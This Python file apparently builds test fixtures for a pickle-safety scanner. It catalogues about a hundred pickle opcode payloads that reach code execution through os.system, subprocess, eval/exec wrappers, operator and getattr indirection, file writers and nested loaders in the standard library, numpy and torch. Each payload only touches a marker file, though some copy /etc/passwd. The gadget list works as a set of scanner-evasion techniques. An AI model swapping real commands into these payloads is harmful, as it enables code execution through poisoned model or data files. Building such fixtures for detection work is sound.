"""What the hostile files call: some hundred ways to run something from a pickle, as opcodes. Runs and imports nothing.

Every payload leaves a file named board-ran (or begins one) in the current folder, which the proof makes empty and
temporary; none does more. The names are public: the standard library's own functions, numpy's and torch's.
"""

from __future__ import annotations

from collections.abc import Mapping
from types import MappingProxyType

from samples.assemble import Code, call, name, new, pickle, stack_name
from samples.files_of_torch import legacy, npy

MARK = "board-ran"
SHELL = f"touch {MARK}"
ARGV = ["touch", MARK]
OPEN = f"open('{MARK}', 'w')"
SOURCE = f"{OPEN}.close()"
SYSTEM = name("os", "system")
PLAIN = call(SYSTEM, SHELL)
GETATTR = name("builtins", "getattr")
OS = name("shutil", "os")
COMPILED = call(name("builtins", "compile"), SOURCE, "x", "exec")
LOGGING = name("logging.config", "logging")
NESTED = pickle(PLAIN)
OBJECTS = npy("|O", (1,), NESTED)
LEGACY = legacy(PLAIN, {})


def at(dotted: str, *args: object) -> Code:
    """Call `module.name`, the name without dots."""
    module, _, attribute = dotted.rpartition(".")
    return call(name(module, attribute), *args)


def deep(module: str, dotted: str, *args: object) -> Code:
    """Call a dotted name, as protocol 4 allows."""
    return call(stack_name(module, dotted), *args)


RUNNERS: dict[str, Code] = {
    "os.system": PLAIN,
    "posix.system": at("posix.system", SHELL),
    "os.popen": at("os.popen", SHELL),
    "os.execvp": at("os.execvp", "touch", ARGV),
    "os.execlp": at("os.execlp", *ARGV[:1], *ARGV),
    "os.spawnvp": at("os.spawnvp", 0, "touch", ARGV),
    "os.spawnlp": at("os.spawnlp", 0, "touch", *ARGV),
    "os.posix_spawnp": at("os.posix_spawnp", "touch", ARGV, {}),
    "subprocess.Popen": at("subprocess.Popen", ARGV),
    "subprocess.run": at("subprocess.run", ARGV),
    "subprocess.call": at("subprocess.call", ARGV),
    "subprocess.check_call": at("subprocess.check_call", ARGV),
    "subprocess.check_output": at("subprocess.check_output", ARGV),
    "subprocess.getoutput": at("subprocess.getoutput", SHELL),
    "subprocess.getstatusoutput": at("subprocess.getstatusoutput", SHELL),
    "commands.getoutput": at("commands.getoutput", SHELL),
    "pty.spawn": at("pty.spawn", ARGV),
    "uuid._get_command_stdout": at("uuid._get_command_stdout", *ARGV),
    "imaplib.IMAP4_stream": at("imaplib.IMAP4_stream", SHELL),
    "_osx_support._read_output": at("_osx_support._read_output", SHELL),
    "distutils.spawn.spawn": at("distutils.spawn.spawn", ARGV),
    "pydoc.pipepager": at("pydoc.pipepager", "x", SHELL),
    "pydoc.tempfilepager": at("pydoc.tempfilepager", "x", f"{SHELL};true"),
    "multiprocessing.util.spawnv_passfds": at(
        "multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", [b"touch", MARK.encode()], []
    ),
    "webbrowser.GenericBrowser.open": deep(
        "webbrowser", "GenericBrowser.open", at("webbrowser.GenericBrowser", ["touch", MARK]), "board-page"
    ),
    "torch.utils.collect_env.run": at("torch.utils.collect_env.run", SHELL),
    "ctypes.CDLL": call(call(GETATTR, at("ctypes.CDLL", None), "system"), SHELL.encode()),
    "test.support.script_helper": at("test.support.script_helper.assert_python_ok", "-c", SOURCE),
}

EVALUATORS: dict[str, Code] = {
    "builtins.eval": at("builtins.eval", OPEN),
    "builtins.exec": at("builtins.exec", SOURCE),
    "__builtin__.eval": at("__builtin__.eval", OPEN),
    "timeit.timeit": at("timeit.timeit", SOURCE, "pass", name("time", "time"), 1),
    "timeit.repeat": at("timeit.repeat", SOURCE, "pass", name("time", "time"), 1, 1),
    "timeit.main": at("timeit.main", ["-n", "1", "-r", "1", SOURCE]),
    "cProfile.run": at("cProfile.run", SOURCE),
    "cProfile.runctx": at("cProfile.runctx", SOURCE, {}, {}),
    "profile.run": at("profile.run", SOURCE),
    "bdb.Bdb.run": deep("bdb", "Bdb.run", at("bdb.Bdb"), SOURCE),
    "trace.Trace.run": deep("trace", "Trace.run", at("trace.Trace", False, False), SOURCE),
    "code.runsource": deep("code", "InteractiveInterpreter.runsource", at("code.InteractiveInterpreter"), SOURCE),
    "code.runcode": deep("code", "InteractiveInterpreter.runcode", at("code.InteractiveInterpreter"), COMPILED),
    "codeop.compile_command": call(
        call(
            name("types", "FunctionType"),
            at("codeop.compile_command", SOURCE, "x", "exec"),
            {"open": name("io", "open")},
        )
    ),
    "runpy._run_code": at("runpy._run_code", COMPILED, {}),
    "runpy.run_path": Code(
        at("builtins.exec", f"open('board-script', 'w').write({SOURCE!r})")
        + b"0"
        + at("runpy.run_path", "board-script")
    ),
    "types.FunctionType": call(call(name("types", "FunctionType"), COMPILED, {"open": name("io", "open")})),
    "marshal of code": call(
        call(
            name("types", "FunctionType"),
            at("marshal.loads", at("marshal.dumps", COMPILED)),
            {"open": name("io", "open")},
        )
    ),
    "dataclasses._create_fn": call(at("dataclasses._create_fn", "f", [], [SOURCE])),
    "typing.ForwardRef": deep(
        "typing", "ForwardRef._evaluate", at("typing.ForwardRef", OPEN), {}, {}, at("builtins.frozenset")
    ),
    "idlelib.debugger.Idb.run": deep("idlelib.debugger", "Idb.run", at("bdb.Bdb"), SOURCE),
    "numpy.runstring": at("numpy.testing._private.utils.runstring", SOURCE, {}),
    "numpy.f2py.myeval": at("numpy.f2py.crackfortran.myeval", OPEN),
    "torch.execWrapper": at("torch.jit.unsupported_tensor_ops.execWrapper", SOURCE, {}, {}),
    "torch.fx._exec_with_source": at("torch.fx.graph_module._exec_with_source", SOURCE, {}),
    "torch.fx._forward_from_src": at("torch.fx.graph_module._forward_from_src", f"{SOURCE}\nforward = 1", {}),
    "torch.fx.reduce_graph_module": at(
        "torch.fx.graph_module.reduce_graph_module", {"_code": f"{SOURCE}\nforward = 1"}, ""
    ),
    "pkgutil.resolve_name": call(at("pkgutil.resolve_name", "os:system"), SHELL),
    "namedtuple.__builtins__": call(deep("collections", "namedtuple.__builtins__.get", "eval"), OPEN),
}

INDIRECT: dict[str, Code] = {
    "functools.partial": call(at("functools.partial", SYSTEM, SHELL)),
    "functools.reduce": call(at("functools.reduce", GETATTR, ["system"], OS), SHELL),
    "operator.methodcaller": call(at("operator.methodcaller", "system", SHELL), OS),
    "operator.attrgetter": call(call(at("operator.attrgetter", "system"), OS), SHELL),
    "operator.attrgetter dotted": call(call(at("operator.attrgetter", "os.system"), LOGGING), SHELL),
    "operator.itemgetter": call(call(at("operator.itemgetter", "eval"), name("shutil", "__builtins__")), OPEN),
    "operator.getitem": call(at("operator.getitem", name("shutil", "__builtins__"), "eval"), OPEN),
    "operator.call": at("operator.call", SYSTEM, SHELL),
    "_operator.methodcaller": call(at("_operator.methodcaller", "system", SHELL), OS),
    "getattr of module": call(call(GETATTR, OS, "system"), SHELL),
    "getattr chain": call(call(GETATTR, call(GETATTR, LOGGING, "os"), "system"), SHELL),
    "object.__getattribute__": call(deep("builtins", "object.__getattribute__", OS, "system"), SHELL),
    "inspect.getattr_static": call(at("inspect.getattr_static", OS, "system"), SHELL),
    "importlib.import_module": call(call(GETATTR, at("importlib.import_module", "os"), "system"), SHELL),
    "builtins.__import__": call(call(GETATTR, at("builtins.__import__", "os"), "system"), SHELL),
    "pydoc.locate": call(at("pydoc.locate", "os.system"), SHELL),
    "logging.config._resolve": call(at("logging.config._resolve", "os.system"), SHELL),
    "sys.modules.get": call(call(GETATTR, deep("sys", "modules.get", "os"), "system"), SHELL),
    "os of shutil": deep("shutil", "os.system", SHELL),
    "os of torch": deep("torch.serialization", "os.system", SHELL),
    "os of numpy": deep("numpy", "f2py.os.system", SHELL),
    "builtins.map": at("builtins.list", at("builtins.map", SYSTEM, [SHELL])),
    "map in NEWOBJ": new(name("builtins", "tuple"), at("builtins.map", SYSTEM, [SHELL])),
    "builtins.filter": at("builtins.set", at("builtins.filter", SYSTEM, [SHELL])),
    "itertools.starmap": at("collections.deque", at("itertools.starmap", SYSTEM, [(SHELL,)])),
    "defaultdict factory": deep(
        "collections",
        "defaultdict.__missing__",
        at("collections.defaultdict", at("functools.partial", SYSTEM, SHELL)),
        1,
    ),
    "threading.Thread.start": deep("threading", "Thread.start", at("threading.Thread", None, SYSTEM, None, (SHELL,))),
    "threading.Thread.run": deep("threading", "Thread.run", at("threading.Thread", None, SYSTEM, None, (SHELL,))),
    "_thread.start_new_thread": at("_thread.start_new_thread", SYSTEM, (SHELL,)),
    "multiprocessing.Process.run": deep(
        "multiprocessing", "Process.run", at("multiprocessing.Process", None, SYSTEM, None, (SHELL,))
    ),
    "atexit.register": at("atexit.register", SYSTEM, SHELL),
    "weakref.finalize": at("weakref.finalize", name("collections", "OrderedDict"), SYSTEM, SHELL),
    "bdb.Bdb.runcall": deep("bdb", "Bdb.runcall", at("bdb.Bdb"), SYSTEM, SHELL),
    "cProfile.Profile.runcall": deep("cProfile", "Profile.runcall", at("cProfile.Profile"), SYSTEM, SHELL),
    "concurrent.futures.submit": deep(
        "concurrent.futures", "ThreadPoolExecutor.submit", at("concurrent.futures.ThreadPoolExecutor"), SYSTEM, SHELL
    ),
    "contextvars.Context.run": deep("contextvars", "Context.run", at("contextvars.copy_context"), SYSTEM, SHELL),
    "copyreg.__newobj__": at("copyreg.__newobj__", name("builtins", "tuple"), at("builtins.map", SYSTEM, [SHELL])),
    "types.MethodType": call(at("types.MethodType", SYSTEM, SHELL)),
    "torch.from_type_v2": at("torch._tensor._rebuild_from_type_v2", SYSTEM, name("builtins", "int"), (SHELL,), {}),
    "numpy.frompyfunc": call(at("numpy.frompyfunc", SYSTEM, 1, 1), SHELL),
    "numpy.vectorize": call(at("numpy.vectorize", SYSTEM), SHELL),
    "numpy.fromfunction": at("numpy.fromfunction", at("functools.partial", SYSTEM, SHELL), ()),
}

WRITERS: dict[str, Code] = {
    "builtins.open": at("builtins.open", MARK, "w"),
    "io.open": at("io.open", MARK, "w"),
    "io.FileIO": at("io.FileIO", MARK, "w"),
    "_io.FileIO": at("_io.FileIO", MARK, "w"),
    "codecs.open": at("codecs.open", MARK, "w"),
    "os.open": at("os.open", MARK, 65),
    "os.mkdir": at("os.mkdir", MARK),
    "os.makedirs": at("os.makedirs", MARK),
    "posix.mkdir": at("posix.mkdir", MARK),
    "os.mkfifo": at("os.mkfifo", MARK),
    "os.symlink": at("os.symlink", "nowhere", MARK),
    "shutil.copyfile": at("shutil.copyfile", "/etc/passwd", MARK),
    "shutil.copytree": at("shutil.copytree", ".", MARK),
    "shutil.make_archive": at("shutil.make_archive", MARK, "tar", "."),
    "distutils.write_file": at("distutils.file_util.write_file", MARK, ["x"]),
    "logging.FileHandler": at("logging.FileHandler", MARK),
    "logging.RotatingFileHandler": at("logging.handlers.RotatingFileHandler", MARK),
    "tempfile.mkdtemp": at("tempfile.mkdtemp", "", MARK, "."),
    "tempfile.mkstemp": at("tempfile.mkstemp", "", MARK, "."),
    "zipfile.ZipFile": at("zipfile.ZipFile", MARK, "w"),
    "tarfile.open": at("tarfile.open", MARK, "w"),
    "gzip.open": at("gzip.open", MARK, "w"),
    "bz2.open": at("bz2.open", MARK, "w"),
    "lzma.open": at("lzma.open", MARK, "w"),
    "sqlite3.connect": at("sqlite3.connect", MARK),
    "dbm.dumb.open": at("dbm.dumb.open", MARK, "n"),
    "shelve.open": at("shelve.open", MARK),
    "mailbox.Maildir": at("mailbox.Maildir", MARK),
    "urllib.request.urlretrieve": at("urllib.request.urlretrieve", "file:///etc/passwd", MARK),
    "zipapp.create_archive": at("zipapp.create_archive", ".", MARK, None, "a:b"),
    "pathlib.Path.touch": deep("pathlib", "Path.touch", at("pathlib.PosixPath", MARK)),
    "pathlib.Path.write_text": deep("pathlib", "Path.write_text", at("pathlib.PosixPath", MARK), "x"),
    "pathlib.Path.mkdir": deep("pathlib", "Path.mkdir", at("pathlib.PosixPath", MARK)),
    "numpy.save": at("numpy.save", MARK, [1]),
    "numpy.savetxt": at("numpy.savetxt", MARK, [1]),
    "numpy.memmap": at("numpy.memmap", MARK, "uint8", "w+", 0, (1,)),
    "numpy.ndarray.tofile": deep("numpy", "ndarray.tofile", at("numpy.array", [1]), MARK),
    "numpy.open_memmap": at("numpy.lib.format.open_memmap", MARK, "w+", "uint8", (1,)),
    "torch.save": at("torch.save", 1, MARK),
    "torch.from_file": at("torch.from_file", MARK, True, 1),
    "torch.UntypedStorage.from_file": deep("torch.storage", "UntypedStorage.from_file", MARK, True, 64),
    "torch.PyTorchFileWriter": at("torch.PyTorchFileWriter", MARK),
    "safetensors.torch.save_file": at("safetensors.torch.save_file", {}, MARK),
}

LOADERS: dict[str, Code] = {
    "pickle.loads": at("pickle.loads", NESTED),
    "_pickle.loads": at("_pickle.loads", NESTED),
    "cPickle.loads": at("cPickle.loads", NESTED),
    "pickle.load": at("pickle.load", at("io.BytesIO", NESTED)),
    "pickle._loads": at("pickle._loads", NESTED),
    "pickle.Unpickler.load": deep("pickle", "Unpickler.load", at("pickle.Unpickler", at("io.BytesIO", NESTED))),
    "shelve.Unpickler": deep("shelve", "Unpickler.load", at("shelve.Unpickler", at("io.BytesIO", NESTED))),
    "ForkingPickler.loads": deep("multiprocessing.reduction", "ForkingPickler.loads", NESTED),
    "pickle of logging": deep("logging.handlers", "pickle.loads", NESTED),
    "numpy.lib.format.read_array": at("numpy.lib.format.read_array", at("io.BytesIO", OBJECTS), True),
    "pickle of numpy": deep("numpy.lib._format_impl", "pickle.loads", NESTED),
    "torch.storage._load_from_bytes": at("torch.storage._load_from_bytes", LEGACY),
    "torch.serialization._legacy_load": at(
        "torch.serialization._legacy_load",
        at("io.BytesIO", LEGACY),
        None,
        name("torch.serialization", "pickle"),
    ),
    "joblib.load": at("joblib.numpy_pickle.load", at("io.BytesIO", NESTED)),
    "lib2to3.Grammar.loads": deep(
        "lib2to3.pgen2.grammar", "Grammar.loads", at("lib2to3.pgen2.grammar.Grammar"), NESTED
    ),
}

FAMILIES: Mapping[str, Mapping[str, Code]] = MappingProxyType(
    {"runner": RUNNERS, "evaluator": EVALUATORS, "indirect": INDIRECT, "writer": WRITERS, "loader": LOADERS}
)
"""Class of payload -> what is called -> its opcodes, which push the result."""
